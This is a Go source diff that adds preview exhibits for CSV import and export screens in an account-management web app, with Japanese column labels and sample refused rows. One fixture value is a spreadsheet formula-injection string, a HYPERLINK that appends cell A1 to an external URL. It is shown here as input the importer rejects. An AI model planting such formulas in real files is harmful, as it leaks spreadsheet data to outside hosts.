@@ -48,7 +48,39 @@ func peopleExhibits() []exhibit {
 		copying("copyrights-preview", CopyRights{To: client, From: &other, Was: client.Menus(), Menus: MenusIn(store.PermitAll), NextRole: "所長", NextScope: store.OfficeScope{All: true}}),
 		copying("copyrights-same", CopyRights{To: client, From: &other, Same: true}),
 	}
-	return append(all, placesExhibits()...)
+	return append(append(all, placesExhibits()...), tablesExhibits()...)
+}
+
+// tablesExhibits are taking in and writing out.
+func tablesExhibits() []exhibit {
+	imports := func(name string, v Import) exhibit {
+		v.Rows, v.Max = 10_000, 5
+		v.Columns = []TableColumn{{"アカウントID", false}, {"顧問先", true}, {"氏名", true}, {"メールアドレス", false}, {"サインイン元", true}, {"識別子", true}, {"役割", false}, {"メニュー権限", true}, {"事業所権限", true}, {"状態", false}}
+		return exhibit{name, v.Self(), func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.Import(w, r, staff(), v) }}
+	}
+	exports := func(name string, v TableExport) exhibit {
+		return exhibit{name, v.Self(), func(p *Pages, w http.ResponseWriter, r *http.Request) error { return p.TableExport(w, r, staff(), v) }}
+	}
+	refused := TablePlan{New: 9_621, Changed: 12, Unchanged: 103, Refused: 264}
+	for i := range 100 {
+		refused.Refusals = append(refused.Refusals, []RowRefusal{
+			{i + 2, "氏名", "=HYPERLINK(\"https://example.invalid/?q=\"&A1,\"山本（旧姓・五十嵐）アレクサンドリア・エリザベス・千代子\")", Problem{Key: "error.csv_formula"}},
+			{i + 2, "顧問先", "SKR-99999", Problem{Key: "error.csv_company", Args: map[string]any{"Name": "SKR-99999"}}},
+			{i + 2, "メールアドレス", "", Problem{Key: "error.person_email"}},
+			{i + 2, "", "", Problem{Key: "error.csv_twice", Args: map[string]any{"Row": i + 1}}},
+		}[i%4])
+		refused.Changes = append(refused.Changes, RowChange{Row: i + 300, New: i%3 > 0, Name: personLines(4)[i%4].Name, Columns: []string{"氏名", "メールアドレス", "メニュー権限", "事業所権限"}[:i%5%4+1]})
+	}
+	ready := TablePlan{New: 2, Changed: 1, Unchanged: 40, Digest: "d", Changes: []RowChange{{2, true, "高橋 美咲", nil}, {3, true, "鈴木 健一", nil}, {5, false, "Maria González de la Cruz", []string{"メニュー権限", "事業所権限"}}}}
+	return []exhibit{
+		imports("import-people", Import{Table: "accounts"}), imports("import-companies", Import{Table: "companies"}), imports("import-offices", Import{Table: "offices"}),
+		imports("import-unreadable", Import{Table: "accounts", Problems: []Problem{{"file", "error.csv_column", map[string]any{"Name": "しめい"}}}}),
+		imports("import-ready", Import{Table: "accounts", File: "f", Plan: &ready}), imports("import-nothing", Import{Table: "companies", File: "f", Plan: &TablePlan{Unchanged: 3}}),
+		imports("import-refused", Import{Table: "accounts", File: "f", Plan: &refused}),
+		imports("import-changed", Import{Table: "accounts", File: "f", Plan: &ready, Problems: []Problem{{"", "error.csv_changed", nil}}}),
+		exports("export-people", TableExport{Table: "accounts", Tables: []string{"accounts"}}), exports("export-companies", TableExport{Table: "companies", Tables: []string{"companies", "offices"}}),
+		exports("export-refused", TableExport{Table: "accounts", Tables: []string{"accounts"}, Encoding: "cp932", Problems: []Problem{{"encoding", "error.csv_unwritable", map[string]any{"Sign": "𠮷"}}}}),
+	}
 }
 
 func personLines(n int) (all []PersonLine) {
